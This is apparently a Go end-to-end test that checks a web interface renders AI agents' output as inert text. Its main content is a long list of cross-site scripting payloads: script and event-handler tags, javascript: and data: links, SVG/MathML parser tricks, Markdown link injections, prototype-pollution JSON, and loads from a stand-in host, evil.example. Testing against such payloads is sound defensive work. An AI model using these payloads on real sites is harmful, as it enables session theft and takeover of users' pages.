package e2e

import "testing"

// attacks are texts that have become code in some page or other: forms of OWASP's list, of the tests of sanitizers and of those of
// parsers of Markdown. A script of theirs sets "taken".
var attacks = []string{
	`<script>taken=1</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<script/x>taken=1</script/y>`, `<<script>taken=1//<</script>`, `"><script>taken=1</script>`,
	`<img src=x onerror=taken=1>`, `<img src=x:x onerror="taken=1"/>`, `<IMG """><SCRIPT>taken=1</SCRIPT>">`, `<img/src="x"/onerror="taken=1">`, "<img src=x\tonerror\n=\ntaken=1>", `<img srcset="//evil.example/a.png 2x">`,
	`<svg onload=taken=1>`, `<svg><script>taken=1</script></svg>`, `<svg><animate onbegin=taken=1 attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:taken=1"><text y=9>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>`, `<svg><style><img src=x onerror=taken=1></style></svg>`, `<svg></p><style><a id="</style><img src=x onerror=taken=1>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=taken=1&gt;">`, `<math href="javascript:taken=1">x</math>`, `<math><mi xlink:href="data:x,<script>taken=1</script>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=taken=1>`, `<noscript><p title="</noscript><img src=x onerror=taken=1>">`, `<template><script>taken=1</script></template>`,
	`<xmp><p title="</xmp><img src=x onerror=taken=1>">`, `<textarea><img title="</textarea><img src=x onerror=taken=1>">`, `<title><img src=x onerror=taken=1></title>`, `<!--><img src=x onerror=taken=1>-->`, `<![CDATA[<script>taken=1</script>]]>`, `<?php <script>taken=1</script> ?>`,
	`<base href="//evil.example/">`, `<link rel=stylesheet href="//evil.example/x.css">`, `<link rel="preload" as="script" href="//evil.example/x.js">`, `<meta http-equiv=refresh content="0;url=//evil.example/">`, `<style>@import "//evil.example/x.css";</style>`, `<div style="background:url(//evil.example/x)">`,
	`<form action="//evil.example/"><button>Approve</button></form>`, `<button formaction="javascript:taken=1">Approve</button>`, `<input autofocus onfocus=taken=1>`, `<select autofocus onfocus=taken=1>`, `<details open ontoggle=taken=1>`, `<marquee onstart=taken=1>`, `<body onload=taken=1>`,
	`<iframe srcdoc="<script>parent.taken=1</script>"></iframe>`, `<iframe src="javascript:parent.taken=1">`, `<object data="javascript:taken=1">`, `<embed src="//evil.example/x.swf">`, `<video><source onerror=taken=1></video>`, `<audio src=x onerror=taken=1>`, `<portal src="//evil.example/">`, `<dialog open>Approve</dialog>`,
	`<a href="javascript:taken=1">x</a>`, `<a href="&#106;avascript:taken=1">x</a>`, `<x-foo onclick=taken=1>x</x-foo>`, `<p onmouseover=taken=1>x</p>`, `<div popover id=x>x</div>`,
	`[x](javascript:taken=1)`, `[x](JaVaScRiPt:taken=1)`, `[x](javascript&colon;taken=1)`, `[x](&#106;avascript:taken=1)`, `[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;taken=1)`, "[x](java\tscript:taken=1)", `[x](<java` + "\n" + `script:taken=1>)`,
	`[x](java&Tab;script:taken=1)`, `[x](java&NewLine;script:taken=1)`, "[x](\x01javascript:taken=1)", `[x](%6Aavascript:taken=1)`, `[x](javascript%3Ataken=1)`, `[x](javascript://evil.example/%0Ataken=1)`, `[x](vbscript:taken=1)`, `[x](livescript:taken=1)`, `[x](view-source:javascript:taken=1)`,
	`[x](data:text/html,<script>taken=1</script>)`, `[x](data:text/html;base64,PHNjcmlwdD50YWtlbj0xPC9zY3JpcHQ+)`, `[x](DATA:text/html,x)`, `[x](file:///etc/passwd)`, `[x](blob:https://evil.example/x)`, `[x](filesystem:https://evil.example/x)`, `[x](about:blank)`, `[x](ftp://evil.example/)`,
	`[x](//evil.example/)`, `[x](\\evil.example\x)`, `[x](/v1/hub)`, `[x](#/waiting)`, `[x](?x)`, `[x](https:evil.example)`, `[x](http://)`, `[x](https://evil.example/" onclick="taken=1)`, `[x](https://evil.example/ "t" onclick="taken=1")`, `[x](https://evil.example/ 'x" onmouseover="taken=1')`, `[x](<https://evil.example/"onclick=taken=1>)`,
	"[x][r]\n\n[r]: javascript:taken=1", "[x]\n\n[x]: <javascript:taken=1> 'x'", "[__proto__]\n\n[__proto__]: https://evil.example/", "[constructor][]\n\n[toString]: javascript:taken=1", `<javascript:taken=1>`, `<JAVASCRIPT:taken=1>`, `<data:text/html,x>`, `<https://evil.example/"onmouseover=taken=1>`, `<x@evil.example?onclick=taken=1>`,
	`javascript://evil.example/%0Ataken=1`, `https://evil.example/"onmouseover="taken=1`, `https://evil.example/<script>taken=1</script>`, `mailto:x@evil.example?subject="><script>taken=1</script>`,
	`![x](javascript:taken=1)`, `![x](https://evil.example/beacon.png)`, `![x](data:image/svg+xml,<svg onload=taken=1>)`, `![" onerror="taken=1](x)`, `![<img src=x onerror=taken=1>](https://evil.example/x)`, `![x](x "onerror=taken=1")`, "![x][r]\n\n[r]: https://evil.example/b.png", `[![x](https://evil.example/x.png)](javascript:taken=1)`, `[<img src=x onerror=taken=1>](https://evil.example/)`,
	"```\"><script>taken=1</script>\nx\n```", "```html onclick=taken=1\n<script>taken=1</script>\n```", "```__proto__\nx\n```", "```constructor\nx\n```", "~~~ js\" onmouseover=\"taken=1\nx\n~~~", "`<script>taken=1</script>`", "``` <img src=x onerror=taken=1>", "    <script>taken=1</script>", "```xml\n]]><img src=x onerror=taken=1><![CDATA[\n```",
	"| <img src=x onerror=taken=1> | b |\n|---|:-:|\n| [x](javascript:taken=1) | `|` |", "# <img src=x onerror=taken=1>", "> <script>\n> taken=1\n> </script>", "- <script>\n  taken=1\n  </script>", "**<b onclick=taken=1>**", "~~<s onclick=taken=1>~~", "- [x] <input onfocus=taken=1>", "1. ```\n   <script>taken=1</script>\n   ```", "a  \n<br onclick=taken=1>",
	`<img name=getElementById><form id=box><input name=children></form>`, `<a id=main></a><a id=main name=x></a>`, `<img id=login>`, `{"__proto__":{"taken":1},"command":"x"}`, `{"constructor":{"prototype":{"taken":1}}}`,
	"\x00<script>taken=1</script>", "<scr\x00ipt>taken=1</script>", "java\x00script:taken=1", "<img src=x\x0conerror=taken=1>", "\ufeff<script>taken=1</script>", "＜script＞taken=1＜/script＞", "&lt;script&gt;taken=1&lt;/script&gt;", "&#60;img src=x onerror=taken=1&#62;", "\\<script>taken=1</script>", "+ADw-script+AD4-taken=1+ADw-/script+AD4-",
	"<scr<script>ipt>taken=1</scr</script>ipt>", "<script>taken=1", "<img src=x onerror=taken=1", "<a <b onclick=taken=1>>", "[a](b)[c](javascript:taken=1 \"[d](https://evil.example/)\")", "[[x](javascript:taken=1)](javascript:taken=1)", "*[x*](javascript:taken=1)", "[x]: javascript:taken=1\n\n[x]",
	"--- <img src=x onerror=taken=1>\n+++ b\n@@ -1 +1 @@\n-<script>taken=1</script>\n+<svg onload=taken=1>", "*** Begin Patch\n*** Add File: <img src=x onerror=taken=1>\n+<script>taken=1</script>",
}

// What an agent writes is shown as words: no script runs, nothing is loaded, and there are no other elements and
// attributes than those of Markdown and of the page. The browser complains of anything that its policy refuses.
func TestNothingThatAgentsWriteBecomesMarkup(t *testing.T) {
	t.Parallel()
	p := modules(t)
	found := p.value(`(async () => {
		const attacks = ` + string(plainJSON(attacks)) + `, wrong = [];
		const tags = new Set('DIV P UL OL LI BLOCKQUOTE H3 H4 H5 H6 HR BR TABLE THEAD TBODY TR TH TD EM STRONG S A CODE PRE SPAN BUTTON DETAILS SUMMARY INS DEL DL DT DD'.split(' '));
		const names = new Set('class dir tabindex role aria-label start scope href title target rel type hidden data-do'.split(' '));
		const before = performance.getEntriesByType('resource').length, address = location.href;
		window.alert = () => { window.taken = 1; };
		const check = (how, text) => {
			for (const e of box.querySelectorAll('*')) {
				if (!tags.has(e.tagName)) wrong.push([how, text, e.tagName]);
				for (const { name, value } of e.attributes) {
					if (!names.has(name)) wrong.push([how, text, name]);
					if (name === 'class' && !/^[a-z- ]*$/.test(value)) wrong.push([how, text, value]);
				}
				if (e.tagName === 'A' && (!['https:', 'http:', 'mailto:'].includes(e.protocol) || e.host === location.host || e.target !== '_blank' || e.rel !== 'noopener noreferrer nofollow')) wrong.push([how, text, e.href]);
				if (e.tagName === 'BUTTON' && !/^(Copy|.* show.*|)$/.test(e.textContent)) wrong.push([how, text, e.textContent]);
			}
			if (window.taken || ({}).taken) { wrong.push([how, text, 'a script ran']); delete window.taken; delete Object.prototype.taken; }
		};
		const all = [...attacks, attacks.join('\n\n'), attacks.join(' ')];
		for (const text of all) {
			const json = JSON.stringify(text);
			put(m.rendered(text)); check('rendered', text);
			put(m.code(text, text), m.code(text, 'html'), m.code(text, 'js')); check('code', text);
			put(m.toolOutput(text), m.toolOutput('{"diff":' + json + '}'), m.toolOutput('{"path":' + json + ',"newText":' + json + '}')); check('toolOutput', text);
			put(...[text, '{"command":' + json + ',' + json + ':' + json + '}', '{"cmd":[' + json + ',' + json + ']}', '{"path":' + json + ',"oldText":"a","newText":' + json + '}',
				'{"file_path":' + json + ',"edits":[{"old_string":' + json + ',"new_string":"","x":' + json + '}]}', '{"path":"a","content":' + json + '}', '{"diff":' + json + ',"__proto__":' + json + '}'].map((i) => m.toolInput(text, i)));
			check('toolInput', text);
			const prose = new m.Prose(); put(prose.element);
			const step = Math.max(1, Math.ceil(text.length / 40));
			for (let n = step; n < text.length + step; n += step) { prose.update(text.slice(0, n), n >= text.length); check('Prose', text); }
		}
		await new Promise((next) => setTimeout(next, 0));
		put(); check('afterwards', '');
		if (location.href !== address) wrong.push(['', '', location.href]);
		for (const r of performance.getEntriesByType('resource').slice(before)) if (!r.name.includes('/v1/')) wrong.push(['', '', 'loaded ' + r.name]);
		return wrong.slice(0, 20).map((w) => w.join(' | ')).join('\n');
	})()`)
	if found != "" {
		t.Errorf("got of %d attacks:\n%s\nwant words alone", len(attacks), found)
	}
}
